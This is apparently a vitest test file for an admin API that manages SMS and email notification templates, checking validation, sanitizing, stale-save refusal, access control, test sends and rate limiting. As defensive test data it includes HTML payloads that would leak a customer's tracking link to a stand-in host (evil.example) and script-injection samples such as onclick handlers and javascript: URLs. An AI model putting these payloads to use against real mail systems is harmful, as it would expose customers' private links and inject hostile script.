import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { emailContent } from '../../testing/email-content.js';
import { signedInAs } from '../../testing/sign-in.js';
import {
  startTestAppWithProviders,
  type TestAppWithProviders,
} from '../../testing/test-app-with-providers.js';
import { startTestApp, type TestBrowser } from '../../testing/test-app.js';
import { isReducedBySanitizing } from './sanitize-email-html.js';

let providers: TestAppWithProviders;
let admin: TestBrowser;
let adminId: number;
beforeAll(async () => {
  providers = await startTestAppWithProviders();
  const signedIn = await signedInAs(providers.testApp, {
    role: 'admin',
    email: 'boss@example.test',
    phone: '(954) 555-0142',
  });
  [admin, adminId] = [signedIn.browser, signedIn.user.id];
});
afterAll(() => providers.close());
beforeEach(() => providers.reset());

const sms = { name: 'Mine', type: 'custom_notification', content: 'Hi {{firstName}}' } as const;
const email = {
  name: 'Mine',
  type: 'custom_notification',
  subject: 'About {{referenceNumber}}',
  content: '<p>Hi {{firstName}}</p>',
} as const;

describe('writing templates', () => {
  it('stores the text with its author', async () => {
    const made = await admin.trpc.templates.createSms.mutate({
      ...sms,
      description: ' For news ',
      language: 'es',
    });
    expect(made).toMatchObject({
      ...sms,
      description: 'For news',
      language: 'es',
      isActive: true,
      createdBy: adminId,
    });
    const changed = await admin.trpc.templates.changeSms.mutate({
      id: made.id,
      description: '',
      isActive: false,
    });
    expect(changed).toMatchObject({
      name: 'Mine',
      description: null,
      isActive: false,
      language: 'es',
    });
    expect((await admin.trpc.templates.listSms.query())[0]).toEqual(changed);
  });

  it('refuses a variable that the type has no value for, even if only the type changes', async () => {
    const refused = await admin.rest('POST', '/api/sms-templates', {
      ...sms,
      content: '{{details}}',
    });
    expect(refused).toMatchObject({
      status: 400,
      body: {
        issues: [{ path: ['content'] }],
        message: expect.stringContaining("{{details}} isn't a variable") as string,
      },
    });
    const { id } = await admin.trpc.templates.createSms.mutate({ ...sms, content: '{{lastName}}' });
    expect(
      await admin.rest('PATCH', `/api/sms-templates/${id}`, { type: 'quote_request_confirmation' }),
    ).toMatchObject({ status: 400, body: { issues: [{ path: ['content'] }] } });
    expect(
      (await admin.trpc.templates.listSms.query()).find((template) => template.id === id)?.type,
    ).toBe('custom_notification');
  });

  it("sanitizes an email's HTML, and says so", async () => {
    const made = await admin.trpc.templates.createEmail.mutate({
      ...email,
      content: '<p onclick="x()">Hi</p><iframe src="https://a.example"></iframe>',
    });
    expect(made).toMatchObject({ content: '<p>Hi</p>', wasCleaned: true });
    expect(
      await admin.trpc.templates.changeEmail.mutate({
        id: made.id,
        content: '<p style="color: #2F6B4F">Hi<br></p>',
      }),
    ).toMatchObject({ wasCleaned: false });
  });

  it.each([
    '<img src="https://evil.example/?{{trackingUrl}}">',
    '<img src="https://evil.example/?&#123;{trackingUrl}}">',
    '<a href="https://evil.example/?x={{trackingUrl}}">Go</a>',
    '<p style="background: url({{trackingUrl}})">Hi</p>',
    '<form action="{{trackingUrl}}">',
    '<base href="{{trackingUrl}}">',
    '<img src="https://evil.example/?{{trackingUrl}}',
  ])("refuses to leak the customer's link to another server: %s", async (content) => {
    const refused = await admin.rest('POST', '/api/email-templates', { ...email, content });
    expect(refused).toMatchObject({
      status: 400,
      body: {
        issues: [{ path: ['content'], message: expect.stringContaining('secret link') as string }],
      },
    });
    await expect(
      admin.trpc.templates.sendTest.mutate({
        channel: 'email',
        ...email,
        content: content.replace('&#123;', '{'),
      }),
    ).rejects.toMatchObject({ data: { httpStatus: 400 } });
    const { id } = await admin.trpc.templates.createEmail.mutate(email);
    expect((await admin.rest('PATCH', `/api/email-templates/${id}`, { content })).status).toBe(400);
  });

  it('refuses a stale save', async () => {
    const made = await admin.trpc.templates.createEmail.mutate(email);
    providers.testApp.clock.setTo('2026-11-20T15:00:05Z');
    await admin.trpc.templates.changeEmail.mutate({
      id: made.id,
      subject: 'First',
      readAt: made.updatedAt,
    });
    const late = await admin.rest('PATCH', `/api/email-templates/${made.id}`, {
      subject: 'Second',
      readAt: made.updatedAt,
    });
    expect(late).toMatchObject({
      status: 409,
      body: { message: expect.stringContaining('Somebody changed this template') as string },
    });
    expect((await admin.trpc.templates.listEmail.query())[0]).toMatchObject({ subject: 'First' });
  });

  it('returns 404 for a deleted template, and 403 to everyone but administrators', async () => {
    const { id } = await admin.trpc.templates.createSms.mutate(sms);
    await admin.trpc.templates.removeSms.mutate({ id });
    for (const method of ['PATCH', 'DELETE'])
      expect((await admin.rest(method, `/api/sms-templates/${id}`, {})).status).toBe(404);
    for (const method of ['PATCH', 'DELETE'])
      expect((await admin.rest(method, '/api/email-templates/987654', {})).status).toBe(404);
    const { browser } = await signedInAs(providers.testApp, { role: 'tree_company_owner' });
    expect((await browser.rest('POST', '/api/email-templates', email)).status).toBe(403);
  });
});

describe('a test sent to oneself', () => {
  it('arrives as the customer would get it, with sample values', async () => {
    const sent = await admin.trpc.templates.sendTest.mutate({
      channel: 'email',
      ...email,
      language: 'es',
      content: '<p>Hola {{firstName}}</p><script>x()</script>',
    });
    expect(sent).toEqual({ to: 'boss@example.test', outcome: 'sent', reason: null });
    const received = providers.resend.emails.at(-1);
    expect(received).toMatchObject({ to: 'boss@example.test', subject: 'About QR-ABCD1234' });
    expect(emailContent(received?.html ?? '')).toBe('<p>Hola Maria</p>');
    expect(
      await admin.trpc.templates.sendTest.mutate({
        channel: 'sms',
        type: sms.type,
        content: '{{businessName}}: {{firstName}}',
      }),
    ).toMatchObject({ outcome: 'sent' });
    expect(providers.twilio.texts.at(-1)?.body).toBe('Sawgrass Stump Co.: Maria');
  });

  it("shows the provider's error", async () => {
    const { browser } = await signedInAs(providers.testApp, {
      role: 'admin',
      phone: '+19545550001',
    });
    expect(await browser.trpc.templates.sendTest.mutate({ channel: 'sms', ...sms })).toMatchObject({
      outcome: 'failed',
      reason: expect.stringContaining('21211') as string,
    });
  });

  it("isn't reported as sent if it waits for business hours or no provider is configured", async () => {
    providers.testApp.clock.setTo('2026-11-21T03:00:00Z');
    expect(await admin.trpc.templates.sendTest.mutate({ channel: 'sms', ...sms })).toMatchObject({
      outcome: 'under_way',
      reason: expect.stringContaining('Waiting for 8:00 AM') as string,
    });
    const bare = await startTestApp();
    try {
      const { browser } = await signedInAs(bare, { role: 'admin' });
      expect(
        await browser.trpc.templates.sendTest.mutate({ channel: 'email', ...email }),
      ).toMatchObject({ outcome: 'skipped', reason: 'not delivered: no provider configured' });
    } finally {
      await bare.close();
    }
  });

  it('is refused with its invalid fields, and is rate limited', async () => {
    const wrong = await admin.trpc.templates.sendTest
      .mutate({ channel: 'email', ...email, subject: '{{amount}}', content: '{{nobody}}' })
      .catch((error: unknown) => error);
    expect(wrong).toMatchObject({
      data: { httpStatus: 400, issues: [{ path: ['content'] }, { path: ['subject'] }] },
    });
    for (let number = 0; number < 20; number += 1)
      await admin.trpc.templates.sendTest.mutate({ channel: 'email', ...email });
    await expect(
      admin.trpc.templates.sendTest.mutate({ channel: 'email', ...email }),
    ).rejects.toThrow("You've sent a lot of tests in the past hour");
  });

  it('is refused by text if the account has no phone number', async () => {
    const { browser } = await signedInAs(providers.testApp, { role: 'admin', phone: null });
    await expect(
      browser.trpc.templates.sendTest.mutate({ channel: 'sms', ...sms }),
    ).rejects.toThrow('Your account has no phone number');
  });
});

describe('detecting what sanitizing removes', () => {
  it.each([
    ['<p>Hi</p>', false],
    ['<P style="color: #fff; font-weight: 600;">Hi<br>there &amp; more</P>', false],
    ['<a href="{{trackingUrl}}">Go</a>', false],
    ['<p onclick="x()">Hi</p>', true],
    ['<a href="javascript:x()">Go</a>', true],
    ['<script>x()</script>', true],
    ['<p style="background: url(https://a.example/p)">Hi</p>', true],
  ])('%s loses something: %s', (html, loses) => expect(isReducedBySanitizing(html)).toBe(loses));
});
